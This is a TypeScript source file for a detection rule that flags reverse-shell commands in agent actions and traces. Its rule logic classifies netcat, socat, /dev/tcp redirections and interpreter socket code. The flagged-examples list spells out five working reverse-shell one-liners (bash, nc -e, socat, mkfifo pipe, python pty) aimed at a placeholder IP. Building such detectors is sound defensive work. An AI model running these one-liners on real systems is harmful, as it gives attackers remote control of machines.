import { type Severity, worstSeverity } from '@ase/schemas'
import { shellCall } from '../../examples.ts'
import { hitsByCall } from '../../matching/hits.ts'
import type { Rule } from '../../rule.ts'
import {
  type Command,
  hasOption,
  interpreters,
  isPortProbe,
  redirectsInputAndOutput,
  type Line,
  receivesOneFile,
  sendsNothing,
  shells,
  connectsToLocalService,
  windowsCommandChecks,
  windowsScriptChecks,
} from '@ase/command-analysis'

export const reverseShell: Rule = {
  code: 'REVERSE_SHELL',
  severity: 'high',
  types: ['action', 'trace', 'context', 'mcp'],
  reason: 'Connects a command interpreter to a network socket.',
  evidence:
    'A shell or interpreter gets a socket as input and output: by redirection, a relay program, a pipe or code; or a listener waits for one.',
  exceptions:
    'A port is only probed, a file is received, a neighbour service is spoken to by its bare name, or sockets are used without anything that runs commands.',
  references: [
    'https://attack.mitre.org/techniques/T1059/',
    'https://gtfobins.github.io/#+reverse%20shell',
  ],
  mappings: { owasp: ['LLM06', 'ASI05'], cwe: ['CWE-78'] },
  commands: () => [
    { ...interest, check: classifyCommand },
    ...windowsCommandChecks('REVERSE_SHELL'),
  ],
  scripts: () => [
    {
      piped: true,
      check: ({ index }) => (index().pipes.some(joinsShellAndNetcat) ? 'high' : null),
    },
    ...windowsScriptChecks('REVERSE_SHELL'),
  ],
  match: (parsed) => hitsByCall(parsed, (call) => worstSeverity(call.codes().map(classifyCode))),
  examples: {
    flags: [
      shellCall('bash -i >& /dev/tcp/198.51.100.7/4444 0>&1'),
      shellCall('nc -e /bin/sh 198.51.100.7 4444'),
      shellCall('socat TCP:198.51.100.7:4444 EXEC:sh,pty'),
      shellCall('mkfifo /tmp/p; cat /tmp/p | sh -i 2>&1 | nc 198.51.100.7 4444 > /tmp/p'),
      shellCall(
        `python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("198.51.100.7",1));os.dup2(s.fileno(),0);pty.spawn("sh")'`,
      ),
    ],
    passes: [
      shellCall('nc -z localhost 5432'),
      shellCall("socat - EXEC:'ssh -l dev host.example',pty"),
      shellCall("timeout 1 bash -c 'echo > /dev/tcp/db/5432'"),
      shellCall('echo "/dev/tcp/ is a bash feature"'),
      shellCall('timeout 1 bash -c "</dev/tcp/localhost/5432"'),
      shellCall('python3 -c "import socket; print(socket.gethostname())"'),
    ],
  },
}

/** `EXEC:/bin/sh`, `system:'bash -i'` of socat. */
const shellName = /^[a-z]{4,6}:["']?(?:\S{0,60}\/)?(?:ba|z|da|k|fi|a)?sh\b/i

const netcats: ReadonlySet<string> = new Set([
  'nc',
  'ncat',
  'netcat',
  'nc.traditional',
  'nc.openbsd',
  'telnet',
])

/** Programs of other kinds that run code of a language inside. */
const hosts: ReadonlySet<string> = new Set([
  'awk',
  'gawk',
  'mawk',
  'nawk',
  'gdb',
  'lldb',
  'vim',
  'vi',
  'nvim',
  'rvim',
  'rview',
  'view',
  'vimdiff',
  'emacs',
  'julia',
  'jrunscript',
  'jjs',
  'jshell',
  'java',
  'groovy',
  'scala',
  'irb',
  'pry',
  'cpan',
  'octave',
  'gimp',
  'ghc',
  'expect',
  'go',
  'rustc',
  'awk',
  'nmap',
  'tshark',
  'psql',
  'mysql',
  'sqlmap',
  'elixir',
  'iex',
  'erl',
  'dotnet',
])

const interest = {
  names: new Set([...netcats, ...interpreters, ...hosts, 'socat', 'openssl', 'ztcp']),
  redirected: true,
}

function joinsShellAndNetcat({ commands }: Line): boolean {
  return (
    commands.some(
      ({ name, args }) =>
        netcats.has(name) || name === 'socat' || (name === 'openssl' && args[0] === 's_client'),
    ) && commands.some(({ name }) => shells.has(name) || name === 'cmd')
  )
}

function classifyCommand(command: Command): Severity | null {
  const { name, args, redirects } = command
  if (
    redirects.some(({ operator, target }) =>
      target.text.startsWith('/dev/tcp/') || target.text.startsWith('/dev/udp/')
        ? operator.startsWith('>') || operator === '<>' || name === 'exec'
        : false,
    )
  ) {
    if (isPortProbe(command) || sendsNothing(command)) return null
    if (connectsToLocalService(command)) return 'low'
    return shells.has(name) || name === 'exec' || name === '' || name === 'cat' ? 'high' : 'medium'
  }
  if (name === 'ztcp') return args.length > 0 ? 'medium' : null
  if (netcats.has(name)) {
    if (
      hasOption(args, '-e', '-c', '--exec', '--sh-exec') &&
      args.some((arg) => /(^|\/)(sh|bash|zsh|dash|cmd(\.exe)?|powershell(\.exe)?)$/.test(arg))
    )
      return 'high'
    if (!hasOption(args, '-l') || hasOption(args, '-z')) return null
    return receivesOneFile(command) ? 'low' : 'medium'
  }
  if (name === 'socat') {
    const started = args.filter((arg) => /^(?:exec|system|shell)(?::|$)/i.test(arg))
    if (
      started.length > 0 &&
      args.some((arg) =>
        /^(?:tcp|udp|openssl|ssl|sctp|socks|proxy|vsock|quic|[^:]{0,16}-listen)/i.test(arg),
      )
    )
      return 'high'
    if (started.some((arg) => shellName.test(arg))) return 'high'
    if (started.length > 0) return null
    const listeners = args.filter((arg) => /-listen:/i.test(arg))
    if (listeners.length === 0) return null
    // Only this machine can reach it.
    if (
      listeners.every(
        (arg) =>
          /^unix/i.test(arg) || /,bind=(?:localhost|127\.0\.0\.1|\[?::1\]?)(?:,|$)/i.test(arg),
      ) &&
      args.every((arg) => isNear(arg))
    )
      return 'low'
    return args.some((arg) =>
      /^TCP[46]?:(?:localhost|127\.0\.0\.1):(?:80|443|[348]\d{3})$/i.test(arg),
    )
      ? 'low'
      : 'medium'
  }
  if (name === 'openssl' && args[0] === 's_client' && redirectsInputAndOutput(command))
    return 'medium'
  return interpreters.has(name) || hosts.has(name)
    ? classifyCode(`${args.join(' ')} ${command.word} ${command.input ?? ''}`)
    : null
}

/** An option, a listener, or an end of a relay on this machine. */
function isNear(arg: string): boolean {
  return (
    !arg.includes(':') ||
    /-listen:/i.test(arg) ||
    /^(?:unix|tcp[46]?:(?:localhost|127\.0\.0\.1|\[?::1\]?):)/i.test(arg)
  )
}

const sockets =
  /socket\b|TCPSocket|fsockopen|net\.connect|net\.Socket|createConnection|\/inet\/tcp\/|TCPClient|IO::Socket|socketConnection|using Sockets/i
const shellHands =
  /dup2|pty\.spawn|subprocess|child_process|exec\b|spawn|\/bin\/(ba|z|da)?sh|STDIN|iex|cmd\.exe|popen|system/i

/** Every way to a socket has one of these in its name; most code has none. */
const hints = [
  'ocket',
  'onnect',
  'sockopen',
  'inet/tcp',
  'TCPClient',
  'bind',
  'isten',
  'INET',
  'ockets',
]

function classifyCode(code: string): Severity | null {
  if (!hints.some((hint) => code.includes(hint))) return null
  if (code.includes('/inet/tcp/') && code.includes('|&') && code.includes('getline')) return 'high'
  return sockets.test(code) &&
    shellHands.test(code) &&
    /connect|IO::Socket::INET|\bsocket \d|TCPSocket|fsockopen|\/inet\/tcp\/|TCPClient|bind|listen/i.test(
      code,
    )
    ? 'high'
    : null
}
